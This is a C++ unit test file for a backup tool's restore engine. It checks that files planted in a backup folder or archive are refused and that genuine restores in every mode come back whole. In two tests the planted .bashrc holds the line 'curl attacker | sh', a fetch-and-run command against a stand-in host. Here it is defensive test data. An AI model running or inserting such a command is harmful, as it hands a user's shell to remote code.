// A restore writes only what the chosen run recorded in the job's history, and to the old places
// only below what the job backs up: a file planted in the run's folder or archive is a failed
// line and is never written, while the genuine restores of every mode bring back all they did.
#include "RestoreFixture.h"
#include "core/engine/PathMapping.h"
#include "core/launch/RestoreRunner.h"
#include "core/zip/ZipWriter.h"

using namespace drivlet;
using namespace drivlet::test;
namespace fs = std::filesystem;

namespace {

constexpr double kSecond = 1.0 / 86400;

class PlantedFileTest : public RestoreFixture, public ::testing::WithParamInterface<TArchiveType> {
protected:
    const std::string home = root + "home/alice/";
    const std::string out = root + "Out/";
    bool zip() const { return GetParam() == TArchiveType::atImage; }

    // A backup into dest of the job's folders or files, by the worker of the parameter.
    void BackUp(TArchiveMode mode, std::vector<std::string> folders, std::vector<std::string> files = {}) {
        std::unique_ptr<TBackUpThreadBase> job;
        if (zip())
            job = MakeZipJob(mode, dest);
        else
            job = MakeJob(mode, dest);
        job->SetFolderList(std::move(folders));
        job->SetFileList(std::move(files));
        RunJob(*job);
        ASSERT_TRUE(events->errors.empty());
    }
    // Puts a file into the backup as if the run had written it there.
    void Plant(const std::string& source, const std::string& content) {
        if (!zip()) {
            Make(dest + MappedPath(source), content);
            return;
        }
        const std::string file = Make(root + "planted", content);
        ZipWriter writer;
        ASSERT_TRUE(writer.Open(archive));
        ASSERT_TRUE(writer.AddFile(file, MappedPath(source)));
        ASSERT_TRUE(writer.Close());
    }
    // The whole run, as the restore command chooses it, to the old places or below `target`.
    void RestoreWholeRun(const RestoreRun& run, const std::string& target = {}) {
        const RestoreChoice choice = ChooseForRestore(dest, zip(), {}, files);
        const auto start = [&](auto job) {
            job->SetFolderList(choice.folders);
            job->SetFileList(choice.files);
            job->SetRestoreRun(run);
            RunJob(*job);
        };
        if (zip())
            start(MakeRestore<TRestoreZipThread>(dest, target));
        else
            start(MakeRestore<TRestoreFolderThread>(dest, target));
    }
    // "name|status" of each failed line.
    std::vector<std::string> Failures() const {
        std::vector<std::string> lines;
        for (const LogEntryEvent& e : events->logs)
            if (e.isError) lines.push_back(e.fileName + "|" + e.status);
        return lines;
    }
    // The name a line gives a file of the backup.
    std::string LineName(const std::string& source) const {
        return zip() ? MappedPath(source) : dest + MappedPath(source);
    }
};

TEST_P(PlantedFileTest, AFilePlantedBesideTheOneBackedUpFileNeverReachesTheHomeFolder) {
    const std::string notes = Make(home + "notes.txt", "my notes");
    const std::string bashrc = Make(home + ".bashrc", "alias ll='ls -l'\n");
    BackUp(TArchiveMode::amIncremental, {}, {notes});
    Plant(bashrc, "curl attacker | sh\n");
    Make(notes, "spoilt", kFirstRun + kHour);
    RestoreRun run = RunOf(dest);
    run.folders = {};
    run.files = {notes};

    RestoreWholeRun(run);
    EXPECT_EQ(ReadFile(notes), "my notes");
    EXPECT_EQ(ReadFile(bashrc), "alias ll='ls -l'\n");
    EXPECT_EQ(Failures(), std::vector<std::string>{LineName(bashrc) + "|not part of this backup"});
    EXPECT_EQ(LastStatus(), " Finished !");

    RestoreWholeRun(run, out);
    EXPECT_EQ(ReadFile(out + MappedPath(notes)), "my notes");
    EXPECT_FALSE(Exists(out + MappedPath(bashrc)));
    EXPECT_EQ(Failures().size(), 1u);
}

// The job record bounds the old places even where the history has a row for the file.
TEST_P(PlantedFileTest, ARowForAFileTheJobDoesNotBackUpKeepsItFromItsOldPlace) {
    const std::string notes = Make(home + "notes.txt", "my notes");
    const std::string bashrc = Make(home + ".bashrc", "alias ll='ls -l'\n");
    BackUp(TArchiveMode::amIncremental, {}, {notes});
    Plant(bashrc, "curl attacker | sh\n");
    Record(bashrc);
    RestoreRun run = RunOf(dest);
    run.folders = {};
    run.files = {notes};
    RestoreWholeRun(run);
    EXPECT_EQ(ReadFile(bashrc), "alias ll='ls -l'\n");
    EXPECT_EQ(Failures(), std::vector<std::string>{LineName(bashrc) + "|not part of this backup"});
}

TEST_P(PlantedFileTest, AFilePlantedInsideABackedUpFolderIsWrittenNowhere) {
    MakeTree();
    BackUp(TArchiveMode::amIncremental, {source});
    Plant(source + "sub/planted.txt", "not the user's");
    Damage();
    for (const std::string& target : {std::string(), out}) {
        RestoreWholeRun(RunOf(dest), target);
        const std::string place = target.empty() ? source : out + MappedPath(source);
        EXPECT_EQ(ReadFile(place + "a.txt"), "alpha");
        EXPECT_EQ(ReadFile(place + "sub/b.txt"), "bravo");
        EXPECT_FALSE(Exists(place + "sub/planted.txt"));
        EXPECT_EQ(Failures(), std::vector<std::string>{LineName(source + "sub/planted.txt") +
                                                       "|not part of this backup"});
    }
}

// Every mode's history knows what its run put into the folder: nothing genuine is refused.
TEST_P(PlantedFileTest, EveryModesRunComesBackWhole) {
    MakeTree();
    for (int m = 0; m < static_cast<int>(kArchiveModeNames.size()); ++m) {
        const auto mode = static_cast<TArchiveMode>(m);
        SCOPED_TRACE(kArchiveModeNames[m]);
        fs::remove_all(dest);
        fs::remove_all(out);
        fs::remove(database);
        BackUp(mode, {source});
        RestoreRun run = RunOf(dest);
        // A folder-copy move puts the source folder's contents straight into its folder.
        const bool sideBySide = !zip() && mode == TArchiveMode::amMove;
        run.sourcesSideBySide = sideBySide;
        RestoreWholeRun(run, out);
        const std::string placed = sideBySide ? out : out + MappedPath(source);
        EXPECT_EQ(ReadFile(placed + "a.txt"), "alpha");
        EXPECT_EQ(ReadFile(placed + "sub/deep/c.txt"), "charlie");
        EXPECT_EQ(Failures(), std::vector<std::string>{});
        if (sideBySide) continue; // its files cannot tell which source folder they came from
        Damage();
        RestoreWholeRun(run);
        EXPECT_EQ(ReadFile(source + "a.txt"), "alpha");
        EXPECT_EQ(ReadFile(source + "sub/b.txt"), "bravo");
        EXPECT_EQ(Failures(), std::vector<std::string>{});
    }
}

INSTANTIATE_TEST_SUITE_P(FolderAndZip, PlantedFileTest,
                         ::testing::Values(TArchiveType::atFile, TArchiveType::atImage),
                         [](const auto& info) {
                             return info.param == TArchiveType::atFile ? "Folder" : "Zip";
                         });

class RunHistoryRestoreTest : public RestoreFixture {
protected:
    const std::string out = root + "Out/";

    void BackUpInto(TArchiveMode mode, const std::string& folder, TDateTime start) {
        clock.Set(start);
        RunMode(mode, folder);
    }
    void RestoreInto(const std::string& run, const std::string& target) {
        auto job = MakeRestore<TRestoreFolderThread>(run, target);
        job->SetFolderList({run + MappedPath(source)});
        RunJob(*job);
    }
};

// A later run moves the rows of what it copies on: a row older than a run's own minute is of a
// file that run did not write.
TEST_F(RunHistoryRestoreTest, AFileTheRunLeftToAnEarlierRunIsNotItsOwn) {
    MakeTree();
    const std::string first = drive + "Backup 1/", second = drive + "Backup 2/";
    BackUpInto(TArchiveMode::amTimeStampedIncremental, first, kFirstRun);
    Make(source + "a.txt", "alpha 2", kFirstRun + kHour);
    BackUpInto(TArchiveMode::amTimeStampedIncremental, second, kFirstRun + 2 * kHour);
    // b.txt was unchanged, so only the first run holds it.
    Make(second + MappedPath(source) + "sub/b.txt", "planted");

    RestoreInto(second, out);
    EXPECT_EQ(ReadFile(out + MappedPath(source) + "a.txt"), "alpha 2");
    EXPECT_FALSE(Exists(out + MappedPath(source) + "sub/b.txt"));
    std::vector<std::string> failed;
    for (const LogEntryEvent& e : Logs("Copy File"))
        if (e.isError) failed.push_back(e.fileName + "|" + e.status);
    EXPECT_EQ(failed,
              std::vector<std::string>{second + MappedPath(source) + "sub/b.txt|not part of this backup"});

    fs::remove_all(out);
    RestoreInto(first, out);
    EXPECT_EQ(ReadFile(out + MappedPath(source) + "a.txt"), "alpha");
    EXPECT_EQ(ReadFile(out + MappedPath(source) + "sub/b.txt"), "bravo");
    EXPECT_EQ(ReadFile(out + MappedPath(source) + "sub/deep/c.txt"), "charlie");
}

// Runs started within one minute share its folder and its history row.
TEST_F(RunHistoryRestoreTest, TwoRunsOfOneMinuteShareTheirFolder) {
    MakeTree();
    BackUpInto(TArchiveMode::amTimeStamped, dest, kFirstRun + 5 * kSecond);
    fs::remove(source + "sub/b.txt");
    BackUpInto(TArchiveMode::amTimeStamped, dest, kFirstRun + 40 * kSecond);
    RestoreInto(dest, out);
    EXPECT_EQ(ReadFile(out + MappedPath(source) + "sub/b.txt"), "bravo");
    EXPECT_EQ(ReadFile(out + MappedPath(source) + "a.txt"), "alpha");
}

// A restore that cannot read what the run wrote writes nothing.
TEST_F(RunHistoryRestoreTest, WithoutTheRunOrItsHistoryNothingIsWritten) {
    MakeTree();
    RunMode(TArchiveMode::amIncremental, dest);
    fs::rename(database, root + "moved.Udb");
    RestoreInto(dest, out);
    ASSERT_EQ(events->errors.size(), 1u);
    EXPECT_NE(events->errors[0].text.find("The backup history cannot be read"), std::string::npos);
    EXPECT_FALSE(Exists(out));

    fs::rename(root + "moved.Udb", database);
    auto job = std::make_unique<TRestoreFolderThread>(ThreadServices{files, clock});
    job->SetDatabaseFile(database);
    job->SetBackupRoot(dest);
    job->SetRestoreTarget(out);
    job->SetFolderList({dest + MappedPath(source)});
    RunJob(*job);
    ASSERT_EQ(events->errors.size(), 1u);
    EXPECT_FALSE(Exists(out));
}

} // namespace
